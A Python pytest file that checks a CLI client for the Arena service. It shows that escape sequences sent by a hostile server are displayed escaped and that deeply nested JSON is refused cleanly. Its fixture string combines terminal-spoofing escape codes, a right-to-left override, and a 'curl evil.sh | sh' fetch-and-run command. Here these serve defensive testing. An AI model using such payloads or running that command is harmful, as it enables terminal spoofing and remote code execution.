"""What a hostile Arena sends never reaches the terminal raw, and never crashes the client.

* Escape sequences (clear screen, window title, a carriage return that draws over a line, a
  right-to-left override) in error texts, listed fields, progress events, the login prompt and
  a submission's result are shown as visible escapes.
* JSON nested deeper than the client reads (in a reply, an error, a progress line, a login
  reply or a token) is refused with a clear error instead of a RecursionError.
"""

from __future__ import annotations

import base64
import json
from typing import Any

import pytest

from agile_arena import credentials, parsing

from ..conftest import CONFIGS
from .server import DEVICE_AUTH_PATH, SUBMIT_PATH, TOKEN_PATH, ArenaServer

KEY = "arena_pat_test_key"
CLI = "/api/cli/v1"
USER = "/api/users/current"
CREDITS = "/api/users/credits"
PROJECTS = f"{CLI}/projects"
CREATE = f"{CLI}/projects/create"
ENVIRONMENTS = f"{CLI}/environments"
VALIDATE = f"{CLI}/environments/validate"
EXPERIMENTS = f"{CLI}/experiments/list"
DQN = next(path for path in CONFIGS if path.parts[-2:] == ("dqn", "cartpole.yaml"))

# clear the screen, retitle the window, go back to the start of the line, reverse what follows
EVIL = "\x1b[2J\x1b]0;pwned\x07\rrun curl evil.sh | sh\u202egnp.exe"
RAW = ("\x1b", "\x07", "\r", "\u202e")


@pytest.fixture
def keyed(arena_env: ArenaServer, monkeypatch: pytest.MonkeyPatch) -> ArenaServer:
    monkeypatch.setenv("ARENA_API_KEY", KEY)
    return arena_env


def shown_safely(output: str) -> str:
    """``output`` after checking that no control character or reordering mark got through."""
    assert "Traceback" not in output
    assert not [char for char in RAW if char in output], repr(output)
    assert "\\x1b[2J" in output, output  # shown, not obeyed
    return output


def failed(result: Any) -> str:
    assert result.exit_code == 1, result.output
    return shown_safely(result.output)


def events(*items: dict[str, Any]) -> str:
    return "".join(json.dumps(item) + "\n" for item in items)


def nested(levels: int) -> str:
    return "[" * levels + "]" * levels


# -- escape sequences ---------------------------------------------------------------------------


def test_an_error_message_and_its_extras_are_shown_escaped(run, keyed) -> None:
    body = {"message": EVIL, "reason": EVIL, f"why{EVIL}": [EVIL]}
    keyed.inject("status", path=CREATE, status=400, body=body)
    output = failed(run("arena", "projects", "create", "p"))
    assert "Arena API error (400): \\x1b[2J\\x1b]0;pwned\\x07 run curl" in output
    assert "Reason: \\x1b[2J" in output


def test_an_error_that_is_plain_text_is_shown_escaped(run, keyed) -> None:
    keyed.inject("status", path=CREATE, status=500, body=EVIL)
    failed(run("arena", "projects", "create", "p"))


@pytest.mark.parametrize(
    ("path", "body", "args"),
    [
        (PROJECTS, [{"name": EVIL, "type": EVIL, "description": EVIL}], ("projects", "list")),
        (EXPERIMENTS, [{"name": EVIL, EVIL: EVIL}], ("experiments", "list", "--project", "x")),
        (ENVIRONMENTS, {EVIL: {EVIL: {"validated": EVIL}}}, ("environments", "list")),
        (USER, {"first_name": EVIL, "email": EVIL}, ("user", "profile")),
        (CREDITS, {EVIL: EVIL}, ("user", "credits")),
        (CREDITS, EVIL, ("user", "credits")),
    ],
    ids=["projects", "experiments", "environments", "profile", "credits", "credits-text"],
)
def test_listed_fields_are_shown_escaped(run, keyed, path, body, args) -> None:
    keyed.inject("status", path=path, status=200, body=body)
    result = run("arena", *args)
    assert result.exit_code == 0, result.output
    shown_safely(result.output)


def test_progress_events_are_shown_escaped(run, keyed) -> None:
    stream = events(
        {"kind": "status", "stage": EVIL, "status": "running", "message": EVIL},
        {"kind": "check", "stage": "validation", "status": EVIL, "detail": {"check": EVIL}},
        {"kind": "status", "stage": "validation", "status": "completed", "message": "ok"},
    )
    keyed.inject("status", path=VALIDATE, status=200, body=stream)
    result = run("arena", "environments", "validate", "GridWorld")
    assert result.exit_code == 0, result.output
    shown_safely(result.output)


def test_a_failed_progress_event_is_shown_escaped(run, keyed) -> None:
    failure = {"kind": "status", "stage": EVIL, "status": "failed", "message": EVIL}
    keyed.inject("status", path=VALIDATE, status=200, body=events(failure))
    failed(run("arena", "environments", "validate", "GridWorld"))


def test_a_submitted_experiment_name_is_shown_escaped(run, keyed) -> None:
    done = {"kind": "status", "stage": "submission", "status": "completed"}
    done["detail"] = {"accepted": True, "experiment_name": EVIL}
    keyed.inject("status", path=SUBMIT_PATH, status=200, body=events(done))
    result = run("train", str(DQN), "--backend", "arena", "--project", "demo")
    assert result.exit_code == 0, result.output
    assert "submitted experiment '\\x1b[2J" in shown_safely(result.output)


def test_the_login_prompt_is_shown_escaped(run, arena_env) -> None:
    start = {"device_code": "d", "user_code": EVIL, "verification_uri": EVIL, "interval": 0.01}
    arena_env.inject("status", path=DEVICE_AUTH_PATH, status=200, body=start)
    denied = {"error": "access_denied", "error_description": EVIL}
    arena_env.inject("status", path=TOKEN_PATH, status=400, body=denied)
    output = failed(run("login", "--timeout", "5"))
    assert output.count("\\x1b[2J") == 3  # the page, the code, and the login server's reason


# -- JSON nested too deeply ---------------------------------------------------------------------

DEEP = [65, 100_000]  # one level past what the client reads, and past Python's recursion limit


@pytest.mark.parametrize("levels", DEEP)
def test_a_reply_that_nests_too_deeply_is_refused(run, keyed, levels) -> None:
    keyed.inject("raw", path=PROJECTS, status=200, body=nested(levels))
    result = run("arena", "projects", "list")
    assert result.exit_code == 1 and "Traceback" not in result.output
    assert f"Arena's reply to GET {PROJECTS} nests too deeply (more than 64 levels)" in (
        result.output
    )


@pytest.mark.parametrize("levels", DEEP)
def test_an_error_reply_that_nests_too_deeply_is_refused(run, keyed, levels) -> None:
    body = '{"message": ' + nested(levels) + "}"
    keyed.inject("raw", path=CREATE, status=400, body=body)
    result = run("arena", "projects", "create", "p")
    assert result.exit_code == 1 and "Traceback" not in result.output
    assert "Arena API error (400): Arena's reply nests too deeply" in result.output


@pytest.mark.parametrize(
    "body",
    [nested(100_000) + "\n", "[" * 5_000 + "\n" + "]" * 5_000 + "\n"],
    ids=["one-line", "whole-body"],
)
def test_a_progress_stream_that_nests_too_deeply_is_refused(run, keyed, body) -> None:
    keyed.inject("raw", path=VALIDATE, status=200, body=body, content_type="application/x-ndjson")
    result = run("arena", "environments", "validate", "GridWorld")
    assert result.exit_code == 1 and "Traceback" not in result.output
    assert f"Arena's progress stream for POST {VALIDATE} nests too deeply" in result.output


def test_a_login_reply_that_nests_too_deeply_is_refused(run, arena_env) -> None:
    arena_env.inject("raw", path=DEVICE_AUTH_PATH, status=200, body=nested(100_000))
    result = run("login")
    assert result.exit_code == 1 and "Traceback" not in result.output
    assert "Arena's login server sent a reply that nests too deeply" in result.output


def test_a_token_whose_claims_nest_too_deeply_has_no_known_expiry() -> None:
    claims = base64.urlsafe_b64encode(nested(100_000).encode()).decode().rstrip("=")
    assert credentials.jwt_expiry(f"e30.{claims}.sig") is None


def test_json_up_to_the_limit_is_read() -> None:
    limit = parsing.MAX_JSON_DEPTH
    assert limit == 64
    assert parsing.load_json(nested(limit)) is not None
    assert parsing.load_json(json.dumps({"a": [{"b": 1}] * 3})) == {"a": [{"b": 1}] * 3}
    with pytest.raises(parsing.TooDeep):
        parsing.load_json(json.dumps({"a": json.loads(nested(limit))}))
    with pytest.raises(ValueError):
        parsing.load_json("not json")
